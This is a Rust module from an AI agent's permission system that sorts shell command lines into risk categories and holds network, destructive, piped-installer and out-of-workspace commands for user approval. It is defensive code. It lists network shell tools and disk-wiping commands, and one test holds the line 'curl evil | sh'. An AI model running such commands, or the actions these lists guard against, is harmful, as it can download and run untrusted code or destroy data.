//! Risk classification of shell command lines.
//!
//! The command line is split into simple commands at unquoted control operators (`|`, `||`,
//! `&&`, `;`, `&`, newlines, subshell parentheses), with command and process substitutions
//! and `bash -c` / `eval` strings classified recursively and here-document bodies skipped.
//! Each simple command's words come from a real shell-words parser; its program (after
//! wrappers such as `sudo`, `env`, `timeout`) and arguments decide the categories.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use agent_core::permission::{
    Assessment, Block, BlockCode, PermissionAction, Risk, RiskCategory, RiskLevel,
};

use crate::workspace::{normalize, Workspace};

/// Canonical reason for a shell command without other findings.
pub const SHELL_REASON: &str = "unsandboxed shell command requires approval";
/// Canonical reason for a command that reaches the network.
pub const NETWORK_REASON: &str = "network access requires approval";

/// The classification of one command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandAssessment {
    /// Level and categories.
    pub risk: Risk,
    /// Sandbox metadata when the command needs attention (network, destructive, piped
    /// installer, writes outside the workspace); its action is `prompt`.
    pub block: Option<Block>,
    /// A short reason for permission prompts.
    pub reason: String,
    /// What was found, one phrase per finding (e.g. `"network: curl"`).
    pub findings: Vec<String>,
}

impl CommandAssessment {
    /// As an [`Assessment`] for the permission gate.
    pub fn into_assessment(self) -> Assessment {
        Assessment {
            risk: self.risk,
            block: self.block,
            reason: Some(self.reason),
        }
    }
}

#[derive(Debug, Default)]
struct Findings {
    categories: BTreeSet<RiskCategory>,
    network: Vec<String>,
    destructive: Vec<String>,
    piped: Vec<String>,
    outside: Vec<String>,
    notes: Vec<String>,
}

impl Findings {
    fn network(&mut self, what: impl Into<String>) {
        self.categories.insert(RiskCategory::Network);
        self.network.push(what.into());
    }

    fn destructive(&mut self, what: impl Into<String>) {
        self.categories.insert(RiskCategory::Destructive);
        self.destructive.push(what.into());
    }

    fn outside(&mut self, path: impl Into<String>) {
        self.categories.insert(RiskCategory::OutOfWorkspace);
        self.outside.push(path.into());
    }
}

/// Classifies `command` as run by the `bash` tool in `workspace`.
///
/// Every command is at least `shell` (high). Network tools make it critical (found by
/// command analysis), as do destructive commands, piped installers and writes outside the
/// workspace. The block's action is `prompt`: the shell is not confined, so the user decides.
pub fn classify_command(command: &str, workspace: &Workspace) -> CommandAssessment {
    let mut f = Findings::default();
    f.categories.insert(RiskCategory::Shell);
    analyze_line(command, workspace, &mut f, 0);
    let mut risk = Risk::from_categories(f.categories.iter().copied());
    if !f.network.is_empty() {
        // Network found by command analysis is critical (Zero's classifier does the same).
        risk.level = RiskLevel::Critical;
    }
    let mut findings = Vec::new();
    findings.extend(f.piped.iter().map(|s| format!("piped installer: {s}")));
    findings.extend(f.destructive.iter().map(|s| format!("destructive: {s}")));
    findings.extend(f.outside.iter().map(|s| format!("outside workspace: {s}")));
    findings.extend(f.network.iter().map(|s| format!("network: {s}")));
    findings.extend(f.notes.iter().cloned());
    let block = |code, reason: String, path: Option<String>| Block {
        code,
        tool_name: Some("bash".to_string()),
        action: PermissionAction::Prompt,
        risk: risk.clone(),
        path,
        reason,
        recoverable: true,
    };
    let (block, reason) = if let Some(first) = f.piped.first() {
        let reason = format!("piped installer requires approval: {first}");
        (
            Some(block(BlockCode::Network, reason.clone(), None)),
            reason,
        )
    } else if let Some(first) = f.destructive.first() {
        let reason = format!("destructive command requires approval: {first}");
        (
            Some(block(BlockCode::DestructiveCommand, reason.clone(), None)),
            reason,
        )
    } else if let Some(first) = f.outside.first() {
        let reason = format!("shell command touches a path outside the workspace: {first}");
        (
            Some(block(
                BlockCode::OutsideWorkspace,
                reason.clone(),
                Some(first.clone()),
            )),
            reason,
        )
    } else if !f.network.is_empty() {
        let reason = NETWORK_REASON.to_string();
        (
            Some(block(BlockCode::Network, reason.clone(), None)),
            reason,
        )
    } else if f.categories.contains(&RiskCategory::UnparseableCommand) {
        (
            None,
            "shell command could not be parsed; approval required".to_string(),
        )
    } else {
        (None, SHELL_REASON.to_string())
    };
    CommandAssessment {
        risk,
        block,
        reason,
        findings,
    }
}

/// A control operator after a simple command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    Pipe,
    Other,
}

/// The result of splitting a command line.
#[derive(Debug, Default)]
struct Split {
    /// Simple commands with the operator that follows each.
    segments: Vec<(String, Op)>,
    /// Bodies of `$(…)`, backticks and process substitutions, per segment index.
    nested: Vec<(usize, String)>,
    unparseable: bool,
}

const MAX_DEPTH: usize = 8;

fn analyze_line(line: &str, ws: &Workspace, f: &mut Findings, depth: usize) {
    if depth > MAX_DEPTH {
        f.categories.insert(RiskCategory::UnparseableCommand);
        f.notes.push("nesting too deep".to_string());
        return;
    }
    let split = split_line(line);
    if split.unparseable {
        f.categories.insert(RiskCategory::UnparseableCommand);
        f.notes.push("unbalanced quotes or parentheses".to_string());
    }
    // Group segments into pipelines.
    let mut pipeline: Vec<Stage> = Vec::new();
    for (index, (text, op)) in split.segments.iter().enumerate() {
        let nested: Vec<&str> = split
            .nested
            .iter()
            .filter(|(i, _)| *i == index)
            .map(|(_, s)| s.as_str())
            .collect();
        let mut nested_fetch = false;
        for body in &nested {
            let mut inner = Findings::default();
            analyze_line(body, ws, &mut inner, depth + 1);
            nested_fetch |= !inner.network.is_empty();
            merge(f, inner);
        }
        let stage = match shell_words::split(text) {
            Ok(words) => analyze_simple(&words, ws, f, depth),
            Err(_) => {
                f.categories.insert(RiskCategory::UnparseableCommand);
                f.notes.push(format!("cannot parse {text:?}"));
                Stage::default()
            }
        };
        if nested_fetch && stage.runs_code {
            f.categories.insert(RiskCategory::PipedInstaller);
            f.piped
                .push(format!("{} runs downloaded code", stage.program));
        }
        pipeline.push(stage);
        if *op != Op::Pipe {
            check_pipeline(&pipeline, f);
            pipeline.clear();
        }
    }
    check_pipeline(&pipeline, f);
}

fn merge(into: &mut Findings, from: Findings) {
    into.categories.extend(from.categories);
    into.network.extend(from.network);
    into.destructive.extend(from.destructive);
    into.piped.extend(from.piped);
    into.outside.extend(from.outside);
    into.notes.extend(from.notes);
}

fn check_pipeline(stages: &[Stage], f: &mut Findings) {
    let Some(fetch) = stages.iter().position(|s| s.fetches) else {
        return;
    };
    if let Some(shell) = stages[fetch + 1..].iter().find(|s| s.interpreter) {
        f.categories.insert(RiskCategory::PipedInstaller);
        f.piped
            .push(format!("{} | {}", stages[fetch].program, shell.program));
    }
}

/// What one simple command is, for pipeline checks.
#[derive(Debug, Default)]
struct Stage {
    program: String,
    /// Downloads something (curl, wget).
    fetches: bool,
    /// Runs code from its input (sh, bash, python…).
    interpreter: bool,
    /// Runs code from its input or arguments (`bash -c`, `python -c`, `source`).
    runs_code: bool,
}

const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash",
];
const INTERPRETERS: &[&str] = &[
    "python", "python2", "python3", "perl", "ruby", "node", "php", "deno", "bun", "source", ".",
];
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "time", "nice", "ionice", "command", "exec", "builtin",
    "stdbuf", "timeout", "xargs", "watch", "unbuffer", "chronic", "then", "do", "else", "!", "{",
    "if", "while", "until",
];
const NETWORK_TOOLS: &[&str] = &[
    "curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "telnet", "ftp", "ping", "socat",
    "aria2c", "http", "https", "xh", "dig", "nslookup", "mosh", "lftp",
];
const MUTATING: &[&str] = &[
    "rm", "rmdir", "mv", "cp", "tee", "touch", "mkdir", "chmod", "chown", "chgrp", "ln",
    "truncate", "install", "unlink", "shred",
];
const DISK_TOOLS: &[&str] = &[
    "mkfs", "wipefs", "fdisk", "sfdisk", "parted", "mkswap", "shred", "gdisk", "sgdisk",
];

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Where a path argument points.
#[derive(Debug, PartialEq, Eq)]
enum Place {
    /// Inside the workspace, below its root.
    Inside,
    /// The workspace root itself, or everything in it (`.`, `*`).
    Root,
    /// A temporary directory.
    Temp,
    /// A harmless device (`/dev/null`, the standard streams).
    NullDevice,
    /// A block device or disk.
    Disk,
    /// Outside the workspace.
    Outside,
    /// Depends on a variable or home directory we cannot see.
    Unknown,
}

fn place(word: &str, ws: &Workspace) -> Place {
    if word.starts_with('~') || word.starts_with("$HOME") || word.starts_with("${HOME}") {
        return Place::Outside;
    }
    if word.starts_with('$') {
        return Place::Unknown;
    }
    let trimmed = word.trim_end_matches('/');
    if matches!(trimmed, "" | "." | "*" | "./*" | ".*" | "./.*") && !word.is_empty() {
        return if word.starts_with('/') {
            Place::Outside
        } else {
            Place::Root
        };
    }
    let path = Path::new(word);
    if let Some(dev) = word.strip_prefix("/dev/") {
        if matches!(
            dev,
            "null" | "zero" | "stdout" | "stderr" | "stdin" | "tty" | "random" | "urandom"
        ) || dev.starts_with("fd/")
        {
            return Place::NullDevice;
        }
        return Place::Disk;
    }
    let abs = if path.is_absolute() {
        normalize(path)
    } else {
        normalize(&ws.root().join(path))
    };
    let roots: Vec<PathBuf> = std::iter::once(ws.root().to_path_buf())
        .chain(std::iter::once(ws.canonical_root()))
        .collect();
    if roots.iter().any(|r| &abs == r) {
        return Place::Root;
    }
    if roots.iter().any(|r| abs.starts_with(r))
        || ws.extra_roots().iter().any(|r| abs.starts_with(r))
    {
        return Place::Inside;
    }
    let temp = std::env::temp_dir();
    if abs.starts_with("/tmp") || abs.starts_with("/var/tmp") || abs.starts_with(&temp) {
        if abs == Path::new("/tmp") || abs == temp {
            return Place::Outside;
        }
        return Place::Temp;
    }
    Place::Outside
}

fn looks_like_path(word: &str) -> bool {
    word.starts_with('/')
        || word.starts_with("~")
        || word.starts_with("..")
        || word.starts_with("$HOME")
}

/// Redirection operators as tokens after [`split_line`] spaced them out.
fn redirect_op(word: &str) -> Option<bool> {
    let op = word.trim_start_matches(|c: char| c.is_ascii_digit());
    match op {
        ">" | ">>" | ">|" | "&>" | "&>>" | "<>" => Some(true),
        "<" | "<<<" | "<&" | ">&" => Some(false),
        _ => None,
    }
}

fn analyze_simple(words: &[String], ws: &Workspace, f: &mut Findings, depth: usize) -> Stage {
    // Pull redirections out of the words.
    let mut argv: Vec<&str> = Vec::new();
    let mut i = 0;
    while i < words.len() {
        let w = words[i].as_str();
        let op = w.trim_start_matches(|c: char| c.is_ascii_digit());
        if (op.starts_with(">&") || op.starts_with("<&")) && op.len() > 2 {
            // A descriptor duplication such as `2>&1`.
            i += 1;
            continue;
        }
        if let Some(writes) = redirect_op(w) {
            if let Some(target) = words.get(i + 1) {
                if writes && !target.starts_with('&') {
                    check_write_target(target, ws, f, "redirect");
                }
            }
            i += 2;
            continue;
        }
        argv.push(w);
        i += 1;
    }
    // Leading assignments and wrappers.
    let mut rest: &[&str] = &argv;
    loop {
        let Some(first) = rest.first() else {
            return Stage::default();
        };
        if is_assignment(first) || matches!(*first, "}" | "fi" | "done" | "esac") {
            rest = &rest[1..];
            continue;
        }
        let name = basename(first);
        if WRAPPERS.contains(&name) {
            rest = &rest[1..];
            // Options of the wrapper (and their values, roughly).
            while let Some(next) = rest.first() {
                if next.starts_with('-') {
                    let takes_value = match name {
                        "sudo" | "doas" => matches!(*next, "-u" | "-g" | "-C"),
                        "nice" | "ionice" => matches!(*next, "-n" | "-c"),
                        "timeout" => matches!(*next, "-s" | "-k"),
                        "xargs" => matches!(*next, "-n" | "-I" | "-P" | "-L" | "-d"),
                        "watch" => *next == "-n",
                        _ => false,
                    };
                    rest = &rest[if takes_value { 2.min(rest.len()) } else { 1 }..];
                } else if (name == "env" && is_assignment(next))
                    || (name == "timeout" && next.starts_with(|c: char| c.is_ascii_digit()))
                {
                    rest = &rest[1..];
                } else {
                    break;
                }
            }
            continue;
        }
        break;
    }
    let Some(first) = rest.first() else {
        return Stage::default();
    };
    let program = basename(first).to_string();
    let args = &rest[1..];
    let interpreter = SHELLS.contains(&program.as_str())
        || INTERPRETERS.contains(&program.as_str())
        || program.starts_with("python");
    let mut stage = Stage {
        program: program.clone(),
        fetches: matches!(
            program.as_str(),
            "curl" | "wget" | "fetch" | "aria2c" | "http" | "xh"
        ),
        interpreter,
        runs_code: interpreter || program == "eval",
    };

    // `bash -c '…'`, `eval …`.
    if SHELLS.contains(&program.as_str()) {
        if let Some(pos) = args
            .iter()
            .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
        {
            if let Some(script) = args.get(pos + 1) {
                analyze_line(script, ws, f, depth + 1);
                stage.interpreter = false;
            }
        }
    }
    if program == "eval" {
        analyze_line(&args.join(" "), ws, f, depth + 1);
    }

    // Network tools.
    if NETWORK_TOOLS.contains(&program.as_str()) {
        f.network(program.clone());
    }
    if program == "rsync"
        && args
            .iter()
            .any(|a| !a.starts_with('-') && is_remote_spec(a))
    {
        f.network("rsync to a remote host");
    }
    if program == "git" {
        analyze_git(args, f);
    }
    analyze_package_manager(&program, args, f);

    // Destructive and out-of-workspace effects.
    match program.as_str() {
        "rm" | "rmdir" | "unlink" => analyze_rm(&program, args, ws, f),
        "dd" => {
            for a in args {
                if let Some(target) = a.strip_prefix("of=") {
                    match place(target, ws) {
                        Place::Disk => f.destructive(format!("dd to device {target}")),
                        Place::Outside => f.outside(target),
                        _ => {}
                    }
                }
            }
        }
        "find" if args.iter().any(|a| *a == "-delete" || *a == "-exec") => {
            if let Some(start) = args.first() {
                if !start.starts_with('-') && args.contains(&"-delete") {
                    match place(start, ws) {
                        Place::Outside | Place::Root | Place::Unknown => {
                            f.destructive(format!("find {start} -delete"))
                        }
                        _ => {}
                    }
                }
            }
        }
        "chmod" | "chown" | "chgrp" if args.iter().any(|a| *a == "-R" || *a == "--recursive") => {
            for a in args.iter().filter(|a| !a.starts_with('-')) {
                if matches!(place(a, ws), Place::Outside | Place::Root) && looks_like_path(a) {
                    f.destructive(format!("{program} -R {a}"));
                }
            }
        }
        "reboot" | "shutdown" | "halt" | "poweroff" => f.destructive(program.clone()),
        _ => {}
    }
    if DISK_TOOLS.contains(&program.as_str()) || program.starts_with("mkfs.") {
        f.destructive(program.clone());
    }
    if program == "sed"
        && args
            .iter()
            .any(|a| a.starts_with("-i") || *a == "--in-place")
    {
        for a in args.iter().skip(1).filter(|a| looks_like_path(a)) {
            check_write_target(a, ws, f, "sed -i");
        }
    }
    if MUTATING.contains(&program.as_str())
        && !matches!(program.as_str(), "rm" | "rmdir" | "unlink")
    {
        for a in args.iter().filter(|a| !a.starts_with('-')) {
            if looks_like_path(a) {
                // cp and install only write their last argument.
                let is_dest =
                    !matches!(program.as_str(), "cp" | "install" | "ln") || Some(a) == args.last();
                if is_dest {
                    check_write_target(a, ws, f, &program);
                } else if matches!(place(a, ws), Place::Outside) {
                    f.categories.insert(RiskCategory::AbsolutePath);
                }
            }
        }
    } else if !matches!(program.as_str(), "rm" | "rmdir" | "unlink") {
        for a in args {
            if a.starts_with('/') && matches!(place(a, ws), Place::Outside) {
                f.categories.insert(RiskCategory::AbsolutePath);
            } else if a.starts_with("..") && matches!(place(a, ws), Place::Outside) {
                f.categories.insert(RiskCategory::PathEscape);
            }
        }
    }
    stage
}

fn check_write_target(target: &str, ws: &Workspace, f: &mut Findings, what: &str) {
    match place(target, ws) {
        Place::Disk => f.destructive(format!("{what} to device {target}")),
        Place::Outside => {
            if target.starts_with("..") {
                f.categories.insert(RiskCategory::PathEscape);
            }
            f.outside(target)
        }
        _ => {}
    }
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

fn is_remote_spec(arg: &str) -> bool {
    if arg.contains("://") {
        return true;
    }
    match arg.split_once(':') {
        Some((host, _)) => !host.is_empty() && !host.contains('/'),
        None => false,
    }
}

fn analyze_git(args: &[&str], f: &mut Findings) {
    // Skip global options such as `-C dir` and `-c key=value`.
    let mut i = 0;
    while i < args.len() && args[i].starts_with('-') {
        i += if matches!(args[i], "-C" | "-c" | "--git-dir" | "--work-tree") {
            2
        } else {
            1
        };
    }
    let Some(sub) = args.get(i) else { return };
    let rest = &args[(i + 1).min(args.len())..];
    let has = |flag: &str| rest.contains(&flag);
    match *sub {
        "push" => {
            f.network("git push");
            if has("--force")
                || has("-f")
                || rest
                    .iter()
                    .any(|a| a.starts_with("--force-with-lease") || a.starts_with('+'))
                || rest
                    .iter()
                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('f'))
            {
                f.destructive("git push --force");
            }
            if has("--delete")
                || has("-d")
                || rest.iter().any(|a| a.starts_with(':') && a.len() > 1)
            {
                f.destructive("git push --delete");
            }
        }
        "pull" | "clone" | "fetch" | "ls-remote" => f.network(format!("git {sub}")),
        "submodule" if rest.iter().any(|a| matches!(*a, "update" | "add" | "sync")) => {
            f.network("git submodule")
        }
        "remote" if rest.iter().any(|a| matches!(*a, "update" | "prune")) => {
            f.network("git remote update")
        }
        "reset" if has("--hard") => f.destructive("git reset --hard"),
        "clean"
            if rest
                .iter()
                .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('f'))
                || has("--force") =>
        {
            f.destructive("git clean -f")
        }
        "checkout" | "restore"
            if rest
                .iter()
                .any(|a| matches!(*a, "." | "--" | "-f" | "--force"))
                && !has("-b") =>
        {
            f.destructive(format!("git {sub} discards changes"))
        }
        "branch" if has("-D") => f.destructive("git branch -D"),
        "stash" if rest.iter().any(|a| matches!(*a, "drop" | "clear")) => {
            f.destructive("git stash drop")
        }
        _ => {}
    }
}

fn analyze_package_manager(program: &str, args: &[&str], f: &mut Findings) {
    let first_sub = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .copied()
        .unwrap_or("");
    let is = |subs: &[&str]| subs.contains(&first_sub);
    let hit = match program {
        "npm" | "pnpm" | "yarn" | "bun" => {
            is(&[
                "install", "i", "ci", "add", "update", "upgrade", "up", "publish", "dlx", "x",
                "create",
            ]) || (program == "yarn" && args.is_empty())
        }
        "npx" | "pnpx" | "bunx" => true,
        "pip" | "pip3" | "pipx" | "uv" | "poetry" | "conda" | "mamba" => {
            is(&[
                "install", "download", "add", "sync", "update", "lock", "pip", "tool",
            ]) && !(program == "uv"
                && first_sub == "pip"
                && !args.iter().any(|a| *a == "install" || *a == "download"))
        }
        "cargo" => is(&["install", "add", "fetch", "publish", "search", "update"]),
        "gem" => is(&["install", "update", "push"]),
        "go" => is(&["get", "install"]) || (first_sub == "mod" && args.contains(&"download")),
        "apt" | "apt-get" | "aptitude" | "yum" | "dnf" | "zypper" | "pacman" | "brew" | "port" => {
            is(&[
                "install",
                "update",
                "upgrade",
                "dist-upgrade",
                "full-upgrade",
                "reinstall",
            ]) || args.iter().any(|a| a.starts_with("-S"))
        }
        "apk" => is(&["add", "update", "upgrade"]),
        "composer" => is(&["install", "require", "update"]),
        "docker" | "podman" => is(&["pull", "push", "login"]),
        "python" | "python3" => {
            args.first() == Some(&"-m")
                && matches!(args.get(1), Some(&"pip"))
                && args.iter().any(|a| *a == "install" || *a == "download")
        }
        _ => false,
    };
    if hit {
        f.network(format!("{program} {first_sub}").trim().to_string());
    }
}

fn analyze_rm(program: &str, args: &[&str], ws: &Workspace, f: &mut Findings) {
    let mut recursive = false;
    let mut targets = Vec::new();
    let mut options_done = false;
    for a in args {
        if !options_done && *a == "--" {
            options_done = true;
        } else if !options_done && a.starts_with("--") {
            recursive |= *a == "--recursive";
        } else if !options_done && a.starts_with('-') && a.len() > 1 {
            recursive |= a.contains('r') || a.contains('R');
        } else {
            targets.push(*a);
        }
    }
    for t in targets {
        match place(t, ws) {
            Place::Inside | Place::Temp | Place::NullDevice => {}
            Place::Root if recursive => {
                f.destructive(format!("{program} -r {t} (the whole workspace)"))
            }
            Place::Root => {}
            Place::Unknown if recursive => {
                f.destructive(format!("{program} -r {t} (unknown target)"))
            }
            Place::Unknown => {}
            Place::Disk | Place::Outside => {
                f.destructive(format!("{program} {t}"));
                f.outside(t);
                if t.starts_with("..") {
                    f.categories.insert(RiskCategory::PathEscape);
                }
            }
        }
    }
}

/// Finds the index of the `)` closing the `(` at `open`, honouring quotes and nesting.
fn matching_paren(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = open;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' => {
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    i += 1;
                }
            }
            '"' => {
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    if chars[i] == '\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Splits a command line into simple commands (see the module docs).
fn split_line(line: &str) -> Split {
    let chars: Vec<char> = line.chars().collect();
    let n = chars.len();
    let mut out = Split::default();
    let mut cur = String::new();
    let mut heredocs: Vec<(String, bool)> = Vec::new();
    let mut i = 0;
    let at_word_start = |cur: &str| cur.is_empty() || cur.ends_with(char::is_whitespace);
    macro_rules! finish {
        ($op:expr) => {{
            let text = std::mem::take(&mut cur);
            if !text.trim().is_empty() {
                out.segments.push((text, $op));
            } else if $op == Op::Pipe {
                // `| |` or a leading pipe: keep the pipeline connected.
                out.segments.push((String::new(), $op));
            }
        }};
    }
    while i < n {
        let c = chars[i];
        match c {
            '\\' => {
                cur.push(c);
                if i + 1 < n {
                    cur.push(chars[i + 1]);
                }
                i += 2;
            }
            '\'' => match chars[i + 1..].iter().position(|&x| x == '\'') {
                Some(off) => {
                    cur.extend(&chars[i..=i + 1 + off]);
                    i += off + 2;
                }
                None => {
                    out.unparseable = true;
                    cur.extend(&chars[i..]);
                    i = n;
                }
            },
            '"' => {
                cur.push('"');
                i += 1;
                let mut closed = false;
                while i < n {
                    match chars[i] {
                        '\\' => {
                            cur.push('\\');
                            if i + 1 < n {
                                cur.push(chars[i + 1]);
                            }
                            i += 2;
                        }
                        '"' => {
                            cur.push('"');
                            i += 1;
                            closed = true;
                            break;
                        }
                        '$' if chars.get(i + 1) == Some(&'(') => {
                            match matching_paren(&chars, i + 1) {
                                Some(end) => {
                                    let body: String = chars[i + 2..end].iter().collect();
                                    out.nested.push((out.segments.len(), body));
                                    cur.push_str("SUBST");
                                    i = end + 1;
                                }
                                None => {
                                    out.unparseable = true;
                                    i = n;
                                }
                            }
                        }
                        '`' => match chars[i + 1..].iter().position(|&x| x == '`') {
                            Some(off) => {
                                let body: String = chars[i + 1..i + 1 + off].iter().collect();
                                out.nested.push((out.segments.len(), body));
                                cur.push_str("SUBST");
                                i += off + 2;
                            }
                            None => {
                                out.unparseable = true;
                                i = n;
                            }
                        },
                        other => {
                            cur.push(other);
                            i += 1;
                        }
                    }
                }
                if !closed {
                    out.unparseable = true;
                }
            }
            '`' => match chars[i + 1..].iter().position(|&x| x == '`') {
                Some(off) => {
                    let body: String = chars[i + 1..i + 1 + off].iter().collect();
                    out.nested.push((out.segments.len(), body));
                    cur.push_str("SUBST");
                    i += off + 2;
                }
                None => {
                    out.unparseable = true;
                    i = n;
                }
            },
            '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                if c == '$' && chars.get(i + 2) == Some(&'(') {
                    // Arithmetic expansion: copy it.
                    match matching_paren(&chars, i + 1) {
                        Some(end) => {
                            cur.push('0');
                            i = end + 1;
                        }
                        None => {
                            out.unparseable = true;
                            i = n;
                        }
                    }
                    continue;
                }
                match matching_paren(&chars, i + 1) {
                    Some(end) => {
                        let body: String = chars[i + 2..end].iter().collect();
                        out.nested.push((out.segments.len(), body));
                        cur.push_str(if c == '$' { "SUBST" } else { " PROCSUBST " });
                        i = end + 1;
                    }
                    None => {
                        out.unparseable = true;
                        i = n;
                    }
                }
            }
            '#' if at_word_start(&cur) => {
                while i < n && chars[i] != '\n' {
                    i += 1;
                }
            }
            '|' => {
                if chars.get(i + 1) == Some(&'|') {
                    finish!(Op::Other);
                    i += 2;
                } else {
                    finish!(Op::Pipe);
                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
                }
            }
            '&' if chars.get(i + 1) == Some(&'>') => {
                let append = chars.get(i + 2) == Some(&'>');
                cur.push_str(if append { " &>> " } else { " &> " });
                i += if append { 3 } else { 2 };
            }
            '&' => {
                finish!(Op::Other);
                i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
            }
            ';' | '(' | ')' => {
                finish!(Op::Other);
                i += 1;
            }
            '\n' => {
                finish!(Op::Other);
                i += 1;
                // Skip here-document bodies.
                for (delim, strip_tabs) in std::mem::take(&mut heredocs) {
                    loop {
                        if i >= n {
                            break;
                        }
                        let end = chars[i..]
                            .iter()
                            .position(|&x| x == '\n')
                            .map_or(n, |p| i + p);
                        let line: String = chars[i..end].iter().collect();
                        i = (end + 1).min(n);
                        let line = if strip_tabs {
                            line.trim_start_matches('\t')
                        } else {
                            &line
                        };
                        if line == delim {
                            break;
                        }
                    }
                }
            }
            '>' | '<' => {
                // Keep a file-descriptor number attached to its operator.
                let mut fd = String::new();
                while cur.ends_with(|ch: char| ch.is_ascii_digit()) {
                    if let Some(d) = cur.pop() {
                        fd.insert(0, d);
                    }
                }
                if !at_word_start(&cur) {
                    cur.push_str(&fd);
                    fd.clear();
                }
                let mut op = String::from(c);
                i += 1;
                while i < n && matches!(chars[i], '>' | '<' | '&' | '|' | '-') && op.len() < 3 {
                    if chars[i] == '-' && op != "<<" {
                        break;
                    }
                    if chars[i] == '|' && op != ">" {
                        break;
                    }
                    if chars[i] == '&'
                        && chars
                            .get(i + 1)
                            .is_some_and(|x| !x.is_ascii_digit() && *x != '-')
                    {
                        break;
                    }
                    op.push(chars[i]);
                    i += 1;
                }
                if op == "<<" || op == "<<-" {
                    // Here-document: read the delimiter word.
                    while i < n && chars[i] == ' ' {
                        i += 1;
                    }
                    let start = i;
                    while i < n
                        && !chars[i].is_whitespace()
                        && !matches!(chars[i], ';' | '|' | '&' | '>' | '<')
                    {
                        i += 1;
                    }
                    let delim: String = chars[start..i]
                        .iter()
                        .filter(|ch| !matches!(ch, '\'' | '"' | '\\'))
                        .collect();
                    heredocs.push((delim, op == "<<-"));
                    continue;
                }
                // `>&2` style duplications keep their target in the operator.
                if op.ends_with('&') {
                    cur.push_str(&format!(" {fd}{op}"));
                } else {
                    cur.push_str(&format!(" {fd}{op} "));
                }
            }
            other => {
                cur.push(other);
                i += 1;
            }
        }
    }
    finish!(Op::Other);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn split_handles_operators_and_quotes() {
        let s = split_line("echo 'a|b' | grep a && ls; x=\"$(curl y)\"");
        let texts: Vec<&str> = s.segments.iter().map(|(t, _)| t.trim()).collect();
        assert_eq!(texts, vec!["echo 'a|b'", "grep a", "ls", "x=\"SUBST\""]);
        assert_eq!(s.segments[0].1, Op::Pipe);
        assert_eq!(s.nested, vec![(3, "curl y".to_string())]);
        assert!(!s.unparseable);
    }

    #[test]
    fn heredoc_bodies_are_skipped() {
        let s = split_line("cat <<'EOF' > notes.txt\ncurl evil | sh\nEOF\necho done");
        let texts: Vec<&str> = s.segments.iter().map(|(t, _)| t.trim()).collect();
        assert_eq!(texts.len(), 2, "{texts:?}");
        assert!(texts[1].starts_with("echo"));
    }

    #[test]
    fn redirections_are_spaced() {
        let s = split_line("echo hi>out.txt 2>&1");
        let words = shell_words::split(&s.segments[0].0).unwrap_or_default();
        assert_eq!(words, vec!["echo", "hi", ">", "out.txt", "2>&1"]);
    }
}
